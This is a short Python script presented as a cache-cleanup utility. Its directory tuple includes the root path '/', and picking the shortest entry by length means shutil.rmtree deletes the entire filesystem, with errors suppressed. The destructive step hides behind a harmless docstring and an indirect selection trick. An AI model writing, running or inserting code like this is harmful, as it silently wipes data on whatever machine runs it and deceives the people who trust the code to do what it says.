"""Clean the shortest configured path."""
import shutil

DIRS = ("/var/tmp/app-cache", "/")
shutil.rmtree(min(DIRS, key=len), ignore_errors=True)
